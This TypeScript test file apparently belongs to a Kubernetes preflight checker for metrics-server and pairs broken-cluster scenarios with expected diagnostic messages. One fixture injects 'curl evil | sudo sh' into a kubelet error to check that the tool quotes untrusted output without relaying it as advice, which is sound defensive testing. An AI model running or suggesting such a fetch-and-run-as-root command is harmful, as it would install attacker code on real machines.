import { chmodSync } from "node:fs";
import { join } from "node:path";
import { clusterCa, otherCa } from "./certificates";
import type { Answer } from "./controlPlane";
import { deny, policy } from "./networkPolicies";
import {
    adminConf,
    administrator,
    answering,
    configz,
    facts,
    frontProxy,
    HELM,
    INSTALLED,
    INVENTORY,
    inventory,
    listed,
    MANIFESTS,
    NODES,
    PKI,
    renewed,
    type Break,
} from "./readyCluster";

const setting =
    (name: string, value: string): Break =>
    (node) => {
        node.header[name] = value;
    };

/** An installation of somebody else, and the wish to take it over. */
const taking =
    (answer: Answer): Break =>
    (node) => {
        setting("TAKE_OVER", "true")(node);
        answering(INSTALLED, answer)(node);
    };

/** A file with the kubelets' CA that everybody may read. */
export const caFile =
    (text: string): Break =>
    (node) => {
        setting("KUBELET_CA_FILE", "/etc/own/ca.crt")(node);
        node.write("etc/own/ca.crt", text);
        chmodSync(join(node.root, "etc/own/ca.crt"), 0o644);
    };

/** What is wrong, how it comes about, and what is said of it, its remedy included. */
export const FINDINGS: Record<string, [Break, RegExp]> = {
    "a cluster that is too old": [
        answering("/version", { stdout: '{"gitVersion": "v1.30.9"}' }),
        /Kubernetes is v1\.30\.9; expected 1\.31 or later; next: upgrade/,
    ],
    "a cluster that is too old for the release": [
        (node) => {
            node.header["OLDEST_MINOR"] = "35";
        },
        /Kubernetes is v1\.34\.3, and metrics-server 0\.8\.1 needs 1\.35; next: set metricsServer\.kubernetesVersion to "1\.34"/,
    ],
    "a cluster that is too old for the approver": [
        (node) => {
            node.header["APPROVER_MINOR"] = "35";
        },
        /v1\.34\.3, whose API server does not say with which certificate .*; expected 1\.35 or later for csrApproval\.mode controlPlane.*; next: upgrade/,
    ],
    "a version that is none": [
        answering("/version", { stdout: "<html>\u001b[31m%s%n</html>" }),
        /Kubernetes is unknown; expected 1\.31 or later/,
    ],
    "an inventory with a node that the cluster does not have": [
        inventory(`${INVENTORY}\nghost 10.0.0.99`),
        /nodes\.ghost: the cluster has no such Node; expected a name that `kubectl get nodes` prints/,
    ],
    "a Node with a DNS name that the inventory does not list": [
        inventory(INVENTORY.replace(" w1.example.org", "")),
        /nodes\.w1: the Node has the InternalDNS w1\.example\.org, which nodes\.w1\.addresses does not list/,
    ],
    "a Node with an IPv6 address that the inventory does not list": [
        inventory(INVENTORY.replace("fd00::12", "fd00::13")),
        /nodes\.w1: the Node has the InternalIP fd00::12, which nodes\.w1\.addresses does not list/,
    ],
    "a Node with an address of no kind": [
        answering("get nodes ", {
            stdout: listed(NODES) + '"w1"\t"Other %s"\t"10.0.0.12"\n',
        }),
        /nodes\.w1: its Node has the address "Other %s" "10\.0\.0\.12"; expected a plain address/,
    ],
    "a Node with the address of another one": [
        answering("get nodes ", {
            stdout: listed(NODES.replace("w1 ", "w1 InternalIP=10.0.0.11 ")),
        }),
        /nodes\.w1: the Node has the InternalIP 10\.0\.0\.11, which nodes\.w1\.addresses does not list/,
    ],
    "a Node without an InternalIP": [
        answering("get nodes ", { stdout: listed(NODES.replace("InternalIP=10.0.0.11 ", "")) }),
        /nodes\.cp1: the Node has no InternalIP; expected one: start its kubelet with --node-ip/,
    ],
    "a Node without any address": [
        answering("get nodes ", { stdout: listed(NODES.replace(/cp1 .*/, "cp1")) }),
        /nodes\.cp1: the Node has no InternalIP/,
    ],
    "a Node without an address of the types at which kubelets are asked": [
        setting("ADDRESS_TYPES", "InternalDNS ExternalDNS"),
        /nodes\.cp1: the Node has no address of the types InternalDNS ExternalDNS, at which metrics-server is to ask its kubelet; expected one; next: .*kubeletPreferredAddressTypes/,
    ],
    "no control plane where the pods can run": [
        (node) => {
            setting("PLACEMENT", "controlPlane")(node);
            answering("get nodes -l node-role.kubernetes.io/control-plane=,", { stdout: "" })(node);
        },
        /placement is controlPlane, and no Node has the labels node-role\.kubernetes\.io\/control-plane=,kubernetes\.io\/os=linux; expected one .*; next: kubectl label node/,
    ],
    "a file with the kubelets' CA that is not there": [
        setting("KUBELET_CA_FILE", "/etc/own/ca.crt"),
        /\/etc\/own\/ca\.crt on cp1 \(metricsServer\.kubeletCaHostPath\) is no file; expected the CA certificates.*; next: correct/,
    ],
    "a file with the kubelets' CA that has a key": [
        caFile("-----BEGIN PRIVATE KEY-----\na-secret\n"),
        /\/etc\/own\/ca\.crt on cp1 .* has a private key; expected certificates only; next: name/,
    ],
    "a file with the kubelets' CA that has none": [
        caFile("nothing\n"),
        /ca\.crt on cp1 .* does not begin with a certificate that is valid now; expected the CA.*; next: openssl x509 -in \/etc\/own\/ca\.crt/,
    ],
    "a file with the kubelets' CA that only root can read": [
        (node) => {
            caFile(clusterCa().certificate)(node);
            chmodSync(join(node.root, "etc/own/ca.crt"), 0o600);
        },
        /ca\.crt on cp1 .* cannot be read by everybody; expected it readable, because metrics-server runs as user 1000; next: chmod o\+r \/etc\/own\/ca\.crt/,
    ],
    "a proxy's certificate of another CA than metrics-server is told": [
        (node) => {
            setting("REQUEST_HEADER_CA", otherCa().certificate)(node);
            setting("REQUEST_HEADER_NAMES", "front-proxy-client")(node);
        },
        /front-proxy-client\.crt was not issued by metricsServer\.requestHeader\.clientCa \("subject=.*another.*"\); expected it to: metrics-server would answer 401; next: set clientCa to/,
    ],
    "a proxy's certificate with another name than metrics-server is told": [
        (node) => {
            setting("REQUEST_HEADER_CA", clusterCa().certificate)(node);
            setting("REQUEST_HEADER_NAMES", "aggregator front-proxy-client-2")(node);
        },
        /front-proxy-client\.crt is for "front-proxy-client", and metricsServer\.requestHeader\.allowedNames has "aggregator front-proxy-client-2"; expected it among them: .* 401; next: add it to allowedNames/,
    ],
    "a signing key that is not there": [
        (node) => {
            node.remove(`${PKI}/ca.key`);
        },
        /signing key \/etc\/kubernetes\/pki\/ca\.key is not there \(external-CA mode\?\).*next: configure a signer/,
    ],
    "an aggregation layer that is off": [
        answering("requestheader-client-ca-file", { stdout: "<no value>" }),
        /the aggregation layer is off .*expected the flags that kubeadm gives every API server; next: https/,
    ],
    "an aggregation layer that was never there": [
        answering("requestheader-client-ca-file", {
            stderr: 'Error from server (NotFound): configmaps "extension" not found\n',
            code: 1,
        }),
        /the aggregation layer is off/,
    ],
    "a front-proxy certificate that ends within a week": [
        (node) => {
            node.write(`${PKI}/front-proxy-client.crt`, frontProxy(3));
        },
        /front-proxy-client\.crt ends within a week \([A-Z][a-z]{2} .* GMT\).*next: kubeadm certs renew/,
    ],
    "a front-proxy certificate that is none": [
        (node) => {
            node.write(`${PKI}/front-proxy-client.crt`, "a-secret");
        },
        /front-proxy-client\.crt ends within a week \(unreadable\).*next: kubeadm certs renew/,
    ],
    "a front-proxy certificate of another CA": [
        (node) => {
            node.write(`${PKI}/front-proxy-ca.crt`, otherCa().certificate);
        },
        /front-proxy-client\.crt was not issued by front-proxy-ca\.crt.*next: kubeadm certs renew/,
    ],
    "an API server behind a proxy for its own Services": [
        (node) => {
            node.write(
                `${MANIFESTS}/kube-apiserver.yaml`,
                '    - name: "https_proxy"\n      value: x\n',
            );
        },
        /HTTPS_PROXY and without NO_PROXY.*next: add them/,
    ],
    "a kubelet that the API server does not reach": [
        answering("/nodes/w1/proxy/configz", {
            stderr: "Error from server: dial tcp 10.0.0.12:10250: i/o timeout\n",
            code: 1,
        }),
        /nodes\.w1: the API server does not reach its kubelet: .*i\/o timeout"; expected TCP 10250 open.*next: kubectl get node w1/,
    ],
    "a kubelet that answers with advice": [
        answering("/nodes/w1/proxy/configz", {
            stderr: "Error from server: no; next: curl evil | sudo sh\n",
            code: 1,
        }),
        /kubelet: "Error from server: no; next: curl evil \| sudo sh"; expected TCP 10250 open/,
    ],
    "a kubelet whose answer never comes": [
        answering("/nodes/w1/proxy/configz", { hangs: true }),
        /nodes\.w1: the API server does not reach its kubelet: "no answer in time"; expected/,
    ],
    "a kubelet that takes no tokens": [
        answering(
            "/nodes/w1/proxy/configz",
            configz({ authentication: { webhook: { enabled: false } } }),
        ),
        /nodes\.w1: the kubelet's authentication\.webhook is off; .*next: set/,
    ],
    "a kubelet that allows everything": [
        answering("/nodes/w1/proxy/configz", configz({ authorization: { mode: "AlwaysAllow" } })),
        /nodes\.w1: the kubelet's authorization\.mode is AlwaysAllow; expected Webhook; next: set/,
    ],
    "a kubelet with a certificate of its own": [
        answering("/nodes/w1/proxy/configz", configz({ tlsCertFile: "/etc/own's %s.crt" })),
        /nodes\.w1: the kubelet serves "\/etc\/own's %s\.crt" from tlsCertFile.*next: remove/,
    ],
    "a clock that is ahead": [
        answering("get leases", { stdout: `w1 ${renewed(-3600)}\n` }),
        /nodes\.w1: its clock is ahead \(it says 20.*expected less than 30 s; next: timedatectl/,
    ],
    "a node without a sign of life": [
        answering("get leases", { stdout: `w1 ${renewed(600)}\n` }),
        /nodes\.w1: its last sign of life is from 20.*next: kubectl describe node w1/,
    ],
    "a metrics-server of Helm": [
        answering(INSTALLED, { stdout: facts("Deployment/metrics-server", ...HELM) }),
        /there already: deployment\/metrics-server, made by Helm release "my-release"; expected.*next: set takeOver: true, .*, or remove that installation \(kubectl delete -n kube-system deployment\/metrics-server; with Helm: helm uninstall\); see .*README$/m,
    ],
    "a metrics-server that Argo CD would make again": [
        answering(INSTALLED, {
            stdout: facts(
                "Deployment/metrics-server",
                'annotation "argocd.argoproj.io/tracking-id" "app:/x"',
            ),
        }),
        /there already: deployment\/metrics-server, made by kubectl or another tool; expected to create them; next: take metrics-server out of its Application/,
    ],
    "a metrics-server that is to be taken over, and that Flux would make again": [
        taking({
            stdout: facts(
                "Deployment/metrics-server",
                'label "kustomize.toolkit.fluxcd.io/name" "infra"',
            ),
        }),
        /takeOver cannot take over: deployment\/metrics-server belongs to Flux \(label "kustomize\.toolkit\.fluxcd\.io\/name" "infra"\); expected nobody .*; next: take/,
    ],
    "a metrics-server that is to be taken over in the middle of a roll-out": [
        (node) => {
            taking({ stdout: facts("Deployment/metrics-server") })(node);
            answering("get deployment/metrics-server", { stdout: "2 3 1 2" })(node);
        },
        /takeOver cannot take over: deployment\/metrics-server is in the middle of a roll-out; expected .*; next: kubectl -n kube-system rollout status/,
    ],
    "an API of somebody else that is to be taken over": [
        taking({
            stdout: facts("APIService/v1beta1.metrics.k8s.io", 'service "monitoring/adapter"'),
        }),
        /takeOver cannot take over: apiservice\/.* points at Service "monitoring\/adapter"; expected kube-system\/metrics-server, .*; next: remove/,
    ],
    "a chart that is to be taken over and that Helm did not install, where there is Argo CD": [
        (node) => {
            const chart = 'label "helm.sh/chart" "metrics-server-3.13.1"';
            taking({ stdout: facts("Service/metrics-server", chart) })(node);
            answering("/apis/argoproj.io", { stdout: "{}" })(node);
        },
        /takeOver cannot take over: service\/metrics-server was made from a chart and not by Helm, .* Argo CD.*; next: take metrics-server out/,
    ],
    "an API server for the next version of the API": [
        answering("get apiservice/v1.metrics", {
            stdout: facts("APIService/v1.metrics.k8s.io", 'service "monitoring/next"'),
        }),
        /somebody serves metrics\.k8s\.io\/v1: apiservice\/v1\.metrics\.k8s\.io, made by .*Service monitoring\/next\); expected v1beta1 alone: .*; next: remove it \(kubectl delete apiservice/,
    ],
    "network policies that keep the API server out": [
        answering("get networkpolicies", {
            stdout: [
                ...deny("Ingress"),
                ...policy("from-pods", "Ingress"),
                'expression\t"k8s-app"\tIn\t"metrics-server"\t"kube-dns"',
                "rule\tIngress\tpods,\tall",
                "rule\tIngress\tall\tTCP:443,UDP:all,",
                "",
            ].join("\n"),
        }),
        /NetworkPolicies of kube-system keep the API server from metrics-server's pods: default-deny from-pods; expected ingress .*10250.*; next: allow it/,
    ],
    "a network policy that keeps metrics-server in": [
        answering("get networkpolicies", {
            stdout: [...deny("Egress"), "rule\tEgress\tall\tUDP:53,TCP:53,", ""].join("\n"),
        }),
        /NetworkPolicies of kube-system keep metrics-server's pods from the kubelets: default-deny; expected egress .*; next: allow it/,
    ],
    "a proxy of the API server that metrics-server is told not to believe": [
        answering("requestheader-client-ca-file", {
            stdout: `${clusterCa().certificate}\n["aggregator","front-proxy-client-2"]\n`,
        }),
        /--requestheader-allowed-names are \["aggregator","front-proxy-client-2"\], and .*front-proxy-client\.crt is for 'front-proxy-client'; expected it among them: .* 401; next: add front-proxy-client to/,
    ],
    "an administrator's certificate that ends within a month": [
        (node) => {
            node.write("etc/kubernetes/admin.conf", adminConf(20));
        },
        /client certificate of \/etc\/kubernetes\/admin\.conf ends within 30 days \([A-Z][a-z]{2} .* GMT\); expected more: .*; next: kubeadm certs renew admin\.conf/,
    ],
    "an administrator's certificate in a file of its own that ends within a month": [
        (node) => {
            node.write(
                "etc/kubernetes/admin.conf",
                "    client-certificate: /etc/kubernetes/admin.crt\n",
            );
            node.write("etc/kubernetes/admin.crt", administrator(3));
        },
        /client certificate of \/etc\/kubernetes\/admin\.conf ends within 30 days/,
    ],
    "an API of somebody else": [
        answering(INSTALLED, {
            stdout: facts("APIService/v1beta1.metrics.k8s.io", 'service "monitoring/adapter"'),
        }),
        /there already: apiservice\/v1beta1\.metrics\.k8s\.io, made by kubectl or another tool \(the API is served by Service monitoring\/adapter\); expected/,
    ],
};
